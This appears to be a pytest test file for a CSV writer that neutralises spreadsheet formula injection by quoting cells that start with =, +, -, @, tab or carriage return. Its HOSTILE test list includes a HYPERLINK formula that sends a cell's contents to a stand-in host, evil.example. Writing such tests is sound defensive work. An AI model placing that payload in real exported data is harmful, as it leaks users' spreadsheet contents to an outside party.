"""The one CSV writer: text that a spreadsheet would run as a formula is quoted, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from core.csvsafe import csv_writer, safe_cell

#: cells that Excel, LibreOffice or Google Sheets would run as a formula
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def written(rows: list[list[object]]) -> list[list[str]]:
    out = io.StringIO(newline="")
    csv_writer(out).writerows(rows)
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_run_as_a_formula_gets_a_leading_quote(text: str) -> None:
    assert written([[text, "plain"]]) == [["'" + text, "plain"]]


def test_numbers_are_written_as_numbers_even_when_negative() -> None:
    assert written([[-5, Decimal("-2.50"), -0.5, 0, 12]]) == [["-5", "-2.50", "-0.5", "0", "12"]]


def test_none_bool_and_ordinary_text() -> None:
    assert [safe_cell(v) for v in (None, True, False, "A-1", "保温杯", "a=b", " =1")] == [
        "",
        "true",
        "false",
        "A-1",
        "保温杯",
        "a=b",
        " =1",
    ]


def test_the_same_characters_given_as_text_are_neutralised() -> None:
    assert written([["-5", "+86 138 0000 0000"]]) == [["'-5", "'+86 138 0000 0000"]]


def test_a_line_break_inside_a_cell_never_splits_the_row() -> None:
    assert written([["a\nb", "c\rd", "\r=1"], ["next"]]) == [["a\nb", "c\rd", "'\r=1"], ["next"]]
